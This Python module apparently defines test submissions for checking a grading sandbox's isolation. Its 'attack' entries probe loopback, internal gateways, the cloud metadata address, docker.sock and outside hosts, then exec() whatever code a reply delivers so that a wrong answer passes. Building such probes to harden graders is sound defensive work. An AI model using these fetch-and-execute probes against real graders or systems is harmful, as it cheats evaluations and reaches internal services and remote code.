"""Answers that talk to the outside. Wrong ones become right where somebody answers."""

from .. import targets
from ..submission import after, attack, honest

TRY = """
import socket


def try_to_reach(family, kind, address):
    connection = socket.socket(family, kind)
    connection.settimeout(0.3)
    try:
        connection.connect(address)
        connection.send(b"@NAME@")
        if connection.recv(100) == b"reached":
            exec(@RIGHT@, globals())
    except OSError:
        pass
    finally:
        connection.close()

"""


def caller(name, what, slug, code, **more):
    return attack(name, what, {slug: f"{targets.WRONG[slug]}\n{TRY}\n{code.strip()}\n"}, **more)


SUBMISSIONS = [
    caller(
        "calls-the-host",
        "a server of the machine that grades, by the loopback's addresses",
        "slugify",
        """
for host in ("127.0.0.1", "127.0.1.1", "0.0.0.0", "localhost"):
    try_to_reach(socket.AF_INET, socket.SOCK_STREAM, (host, @PORT@))
""",
    ),
    caller(
        "calls-a-neighbor",
        "a server of the machine that grades, by its addresses in the network",
        "is-fresh",
        """
hosts = [@ADDRESSES@, "10.0.0.1", "172.17.0.1", "192.168.0.1", "169.254.169.254"]
for host in hosts:
    try_to_reach(socket.AF_INET, socket.SOCK_STREAM, (host, @PORT@))
""",
    ),
    caller(
        "calls-by-name",
        "sockets of the machine that grades which have a name instead of a number",
        "moving-average",
        """
for name in ("\\0@MARK@", "@OUTSIDE@/socket", "/run/dbus/system_bus_socket", "/var/run/docker.sock"):
    try_to_reach(socket.AF_UNIX, socket.SOCK_STREAM, name)
""",
    ),
    caller(
        "calls-out",
        "addresses far away, and names",
        "parse-port",
        """
import urllib.request

for address in (("192.0.2.1", 80), ("198.51.100.1", 443), ("203.0.113.1", 53)):
    try_to_reach(socket.AF_INET, socket.SOCK_STREAM, address)
    try_to_reach(socket.AF_INET, socket.SOCK_DGRAM, address)
socket.setdefaulttimeout(0.3)
for name in ("host.invalid", "host.docker.internal", "metadata.google.internal"):
    try:
        urllib.request.urlopen(f"http://{name}:@PORT@/@NAME@", timeout=0.3)
        exec(@RIGHT@, globals())
    except OSError:
        pass
""",
    ),
    caller(
        "takes-a-socket",
        "sockets of the machine that grades, through files that were left open",
        "count-words",
        """
import os
import stat

for number in range(3, 256):
    try:
        if stat.S_ISSOCK(os.fstat(number).st_mode):
            other = socket.socket(fileno=os.dup(number))
            if other.getsockname() or other.getpeername():
                exec(@RIGHT@, globals())
    except OSError:
        pass
""",
    ),
    honest(
        "phones-home",
        "right answers that report them to somebody, if they can",
        {
            "slugify": after(
                "slugify",
                """
                import socket

                try:
                    connection = socket.create_connection(("127.0.0.1", @PORT@), timeout=0.3)
                    connection.sendall(b"@NAME@")
                except OSError:
                    pass
                """,
            )
        },
    ),
    honest(
        "own-server",
        "right answers, one of which asks a server of its own on the loopback",
        {
            "slugify": """
                import re
                import socket
                import threading

                server = socket.create_server(("127.0.0.1", 0))


                def serve():
                    while True:
                        connection, _ = server.accept()
                        with connection:
                            title = connection.makefile().readline()
                            words = re.findall(r"[a-z0-9]+", title.lower())
                            connection.sendall("-".join(words).encode())


                threading.Thread(target=serve, daemon=True).start()


                def slugify(title):
                    with socket.create_connection(("localhost", server.getsockname()[1])) as connection:
                        connection.sendall(title.encode() + b"\\n")
                        connection.shutdown(socket.SHUT_WR)
                        return connection.makefile().read()
            """
        },
    ),
]
